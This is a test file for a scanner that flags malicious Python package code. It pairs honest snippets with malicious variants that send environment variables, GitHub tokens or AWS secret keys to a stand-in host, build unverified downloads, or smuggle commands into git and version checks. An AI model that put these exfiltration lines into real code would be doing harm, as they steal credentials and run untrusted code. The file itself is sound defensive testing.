import { judgeSources } from '../../src/analysis/judge-sources.js';
import { asksVersion, movesFiles } from '../../src/analysis/commands.js';
import type { Python } from '../../src/python/parser.js';
import { loadTestPython } from '../support/python.js';
import { sourceTree } from '../support/source-tree.js';

let python: Python;
beforeAll(async () => {
  python = await loadTestPython();
});

const BLOCKED = 'CRITICAL';

function isBlocked(path: string, lines: readonly string[]): boolean {
  const files = { 'fixture-1.0/pkg/__init__.py': '', [`fixture-1.0/${path}`]: lines.join('\n') };
  return judgeSources(sourceTree(files), python).findings.some(({ severity }) => severity === BLOCKED);
}

const FETCH = [
  'import hashlib, os, subprocess, tarfile, urllib.request',
  'def fetch(place):',
  '    archive = os.path.join(place, "lib.tar.gz")',
  '    urllib.request.urlretrieve("https://evil.invalid/lib.tar.gz", archive)',
];
const BUILD = [
  '    tarfile.open(archive).extractall(place)',
  '    subprocess.check_call(["make", "-C", place])',
  'fetch("build")',
];
const COMPARE = [
  '    with open(archive, "rb") as file:',
  '        found = hashlib.sha256(file.read()).hexdigest()',
  `    if found != "${'0'.repeat(64)}":`,
  '        raise SystemExit("not the archive that is known")',
];

/** What somebody honest does, and what differs from it in one point and is not honest. */
test.each<[what: string, path: string, honest: readonly string[], other: readonly string[]]>([
  [
    'the source of a library, checked and built',
    'setup.py',
    [...FETCH, ...COMPARE, ...BUILD],
    [...FETCH, ...BUILD],
  ],
  [
    'a hash that is computed and not compared',
    'setup.py',
    [...FETCH, ...COMPARE, ...BUILD],
    [...FETCH, '    print(hashlib.sha256(open(archive, "rb").read()).hexdigest())', ...BUILD],
  ],
  [
    'a file chosen by the version of a compiler',
    'setup.py',
    [
      'import subprocess, urllib.request',
      'version = subprocess.check_output(["nvcc", "-V"]).decode()',
      'urllib.request.urlretrieve("https://evil.invalid/" + version, "x.whl")',
    ],
    [
      'import subprocess, urllib.request',
      'version = subprocess.check_output(["env"]).decode()',
      'urllib.request.urlretrieve("https://evil.invalid/" + version, "x.whl")',
    ],
  ],
  [
    'files in a folder that tell which version is there',
    'setup.py',
    [
      'import os, urllib.request',
      'urllib.request.urlretrieve("https://evil.invalid/" + max(os.listdir("libs")), "x")',
    ],
    ['import os, requests', 'requests.post("https://evil.invalid", json=os.listdir("libs"))'],
  ],
  [
    'a token of GitHub, sent there',
    'pkg/a.py',
    [
      'import os, requests',
      'requests.get("https://api.github.com/x", headers={"Authorization": os.environ["GITHUB_TOKEN"]})',
    ],
    [
      'import os, requests',
      'requests.get("https://evil.invalid/x", headers={"Authorization": os.environ["GITHUB_TOKEN"]})',
    ],
  ],
  [
    'credentials of a cloud, sent to sign in there',
    'pkg/a.py',
    [
      'import boto3, requests',
      'def go():',
      '    keys = boto3.Session().get_credentials().get_frozen_credentials()',
      '    requests.post("https://signin.aws.amazon.com/federation", data=keys.secret_key)',
    ],
    [
      'import boto3, requests',
      'def go():',
      '    keys = boto3.Session().get_credentials().get_frozen_credentials()',
      '    requests.post("https://signin.evil.invalid/federation", data=keys.secret_key)',
    ],
  ],
  [
    'a token of a chat bot, checked with the service it is for',
    'pkg/a.py',
    [
      'import requests',
      'def check(body):',
      '    token = (body.get("token") or "").strip()',
      '    return requests.get(f"https://api.telegram.org/bot{token}/getMe").json()',
    ],
    [
      'import requests',
      'def check(body):',
      '    token = (body.get("token") or "").strip()',
      '    return requests.get(f"https://api.telegram.org/bot0:{\'a\' * 35}/sendMessage?text={token}").json()',
    ],
  ],
  [
    'a loop over nothing',
    'pkg/a.py',
    [
      'import os, requests',
      'for one in []:',
      '    requests.post("https://evil.invalid", json=dict(os.environ))',
    ],
    [
      'import os, requests',
      'for one in elsewhere() or []:',
      '    requests.post("https://evil.invalid", json=dict(os.environ))',
    ],
  ],
  [
    'a thread that nothing starts',
    'pkg/a.py',
    [
      'import os, requests, threading',
      'def tell(): requests.post("https://evil.invalid", data=dict(os.environ))',
      'thread = threading.Thread(target=tell)',
    ],
    [
      'import os, requests, threading',
      'def tell(): requests.post("https://evil.invalid", data=dict(os.environ))',
      'thread = threading.Thread(target=tell)',
      'thread.start()',
    ],
  ],
  [
    'a program that asks first',
    'pkg/a.py',
    [
      'import os, requests',
      'reply = input("Send the report? ")',
      'if reply.lower() in ("y", "yes"):',
      '    requests.post("https://evil.invalid", json=dict(os.environ))',
    ],
    [
      'import os, requests',
      'reply = input("Continue? ")',
      'requests.post("https://evil.invalid", json=dict(os.environ))',
    ],
  ],
  [
    'a question while the package is built, which nobody can answer',
    'pkg/a.py',
    [
      'if input("?") == "y":',
      '    import os, requests',
      '    requests.post("https://evil.invalid", json=dict(os.environ))',
    ],
    ['import os, requests', 'requests.post("https://evil.invalid", json=dict(os.environ))'],
  ],
  [
    'a repository that a page names',
    'setup.py',
    [
      'import subprocess, urllib.request',
      'where = urllib.request.urlopen("https://evil.invalid").read().decode()',
      'subprocess.check_call(["git", "clone", where, "libs"])',
    ],
    [
      'import subprocess, urllib.request',
      'where = urllib.request.urlopen("https://evil.invalid").read().decode()',
      'subprocess.check_call(["git", "clone", "-c", where, "libs"])',
    ],
  ],
])('%s', (_what, path, honest, other) => {
  expect([isBlocked(path, honest), isBlocked(path, other)]).toEqual([false, true]);
});

test('threads are started whatever they are kept in', () => {
  const lines = [
    'import os, requests, threading',
    'def tell(): requests.post("https://evil.invalid", data=dict(os.environ))',
    'threads = [threading.Thread(target=tell) for _ in range(3)]',
    'for thread in threads:',
    '    getattr(thread, "st" + "art")()',
  ];
  expect(isBlocked('pkg/a.py', lines)).toBe(true);
});

test('programs that lie beside modules are run by whoever starts them', () => {
  const lines = ['import os, requests', 'requests.post("https://evil.invalid", json=dict(os.environ))'];
  const at = (files: Record<string, string>): string[] =>
    judgeSources(
      sourceTree({ 'pkg/__init__.py': '', ...files }, { kind: 'wheel', folder: '' }),
      python,
    ).findings.flatMap(({ severity, reach = '' }) => (severity === BLOCKED ? [reach] : []));
  expect(at({ 'pkg/scripts/run.py': lines.join('\n') })).not.toContain('import');
  expect(at({ 'pkg/scripts/run.py': lines.join('\n'), 'pkg/scripts/__init__.py': '' })).toContain('import');
  expect(at({ 'pkg/scripts/run.py': lines.join('\n'), 'pkg/a.py': 'import pkg.scripts.run' })).toContain(
    'import',
  );
});

test.each([
  ['nvcc -V', true],
  ['/Applications/Some Browser.app/browser --version', true],
  ['nvidia-smi --query-gpu=compute_cap --format=csv,noheader', true],
  ['env', false],
  ['sh -c env --version', false],
  ['cat /etc/passwd; x --version', false],
])('asks for a version: %s', (command, expected) => {
  expect(asksVersion(command)).toBe(expected);
});

test.each([
  ['git clone https://evil.invalid/x y', true],
  ['git -C y checkout --quiet main', true],
  ['tar xzf x.tar.gz', true],
  ['git clone -c core.sshCommand=x https://evil.invalid/x', false],
  ['git clone x && sh x/run', false],
  ['git clone ext::sh', false],
  ['x clone y', false],
])('moves files only: %s', (command, expected) => {
  expect(movesFiles(command)).toBe(expected);
});
